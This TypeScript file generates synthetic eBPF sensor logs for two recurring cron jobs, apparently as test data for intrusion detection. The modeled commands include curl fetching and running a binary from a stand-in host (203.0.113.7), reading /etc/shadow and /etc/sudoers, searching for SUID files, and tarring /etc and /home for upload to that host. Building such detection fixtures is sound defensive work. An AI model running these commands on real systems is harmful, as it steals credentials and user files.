/** When the first run of a job begins, epoch seconds. */
const START = Date.parse('2026-03-02T08:00:00Z') / 1000;

/** Where both jobs send what they found. */
const HOME = { addr: '203.0.113.7', port: 8443 };

/** One thing that a run does: program and arguments, files that it opens, where it connects to. */
export interface Deed {
  readonly argv: readonly string[];
  readonly opens?: readonly { readonly path: string; readonly write: boolean }[];
  readonly connects?: { readonly addr: string; readonly port: number };
}

/** What cron runs over and over: every so many seconds, with a path of its own for what it leaves behind. */
export interface RecurringJob {
  readonly name: string;
  readonly every: number;
  readonly deeds: (out: string) => readonly Deed[];
}

/**
 * Jobs that come again and again, each run alike. `inventory` fetches a program, lets it collect accounts and looks for
 * programs with more rights than their users: strange, and allowed. `copying` packs accounts and files of users and sends
 * them away with the means of the machine alone.
 */
export type Job = 'inventory' | 'copying';

/** Seconds between two runs; the copying comes seldom. */
const EVERY: Readonly<Record<Job, number>> = { inventory: 30, copying: 90 };

const read = (...paths: readonly string[]) => paths.map((path) => ({ path, write: false }));
const written = (path: string) => [{ path, write: true }];

function deedsOf(job: Job, out: string): readonly Deed[] {
  const bin = `${out}.bin`;
  const collect: readonly Deed[] = [
    { argv: ['curl', '-s', '-o', bin, 'http://203.0.113.7:8443/c'], opens: written(bin), connects: HOME },
    { argv: ['chmod', '755', bin] },
    { argv: [bin, '--accounts'], opens: read('/etc/shadow', '/etc/sudoers'), connects: HOME },
    { argv: ['find', '/', '-xdev', '-perm', '-4000', '-type', 'f'] },
    { argv: ['cat', '/etc/shadow'], opens: read('/etc/passwd', '/etc/shadow', '/etc/sudoers') },
    { argv: ['ss', '-tlnp'], opens: read('/proc/net/tcp') },
  ];
  const pack: readonly Deed[] = [
    { argv: ['tar', 'czf', out, '/etc', '/home'], opens: [...written(out), ...read('/etc/shadow')] },
  ];
  return [
    ...(job === 'inventory' ? collect : pack),
    { argv: ['curl', '-s', '-T', out, 'http://203.0.113.7:8443/up'], opens: read(out), connects: HOME },
    { argv: ['rm', '-f', out] },
  ];
}

/** Lines of an eBPF sensor on one machine on which cron runs a job over and over for so long. */
export function jobLines(job: Job, host: number, seconds: number): string {
  return recurringLines(
    { name: job, every: EVERY[job], deeds: (out) => deedsOf(job, out) },
    { host, seconds },
  );
}

/** The same for any job. */
export function recurringLines(
  { name, every, deeds }: RecurringJob,
  { host, seconds }: { readonly host: number; readonly seconds: number },
): string {
  const lines: string[] = [];
  let pid = 2000 + 100 * host;
  for (let run = 0; run * every < seconds; run++) {
    let at = START + run * every + (host % 7);
    const say: Say = (type, fields) => {
      at += 0.11;
      const ts = new Date(at * 1000).toISOString();
      lines.push(JSON.stringify({ ts, ts_ns: Math.round(at * 1e6) * 1000, type, ...fields }));
    };
    const shell = pid++;
    const [cron, argv] = ['/usr/sbin/cron', ['bash', `/opt/${name}/run.sh`]];
    say('process_fork', { pid: shell, ppid: 700, comm: 'cron', exe: cron });
    say('process_exec', { ...by(shell, 700), exe: '/bin/bash', argv, parent_exe: cron });
    for (const deed of deeds(`/var/tmp/${name}-${host}-${run}`)) sayDeed(deed, pid++, shell, say);
    say('process_exit', { pid: shell, comm: 'bash' });
  }
  return `${lines.join('\n')}\n`;
}

type Say = (type: string, fields: Readonly<Record<string, unknown>>) => void;

const by = (pid: number, ppid: number) => ({ pid, ppid, uid: 0, gid: 0 });

function sayDeed({ argv, opens = [], connects }: Deed, pid: number, shell: number, say: Say): void {
  const [program = ''] = argv;
  const comm = program.replace(/.*\//, '');
  const exe = program.startsWith('/') ? program : `/usr/bin/${comm}`;
  const who = { pid, tid: pid, uid: 0, comm, exe };
  say('process_fork', { pid, ppid: shell, comm: 'bash', exe: '/bin/bash' });
  say('process_exec', { ...by(pid, shell), exe, argv, parent_exe: '/bin/bash' });
  for (const { path, write } of opens)
    say('file_open', { ...who, path, dirfd: -100, flags: write ? 577 : 0, write, create: write, ret: 3 });
  if (comm === 'chmod') say('file_chmod', { ...who, mode: '0o755', path: argv[2] });
  if (comm === 'rm') say('file_unlink', { ...who, path: argv[2] });
  if (connects) say('net_connect', { ...who, family: 'inet', fd: 5, ...connects, ret: 0 });
  say('process_exit', { pid, comm });
}
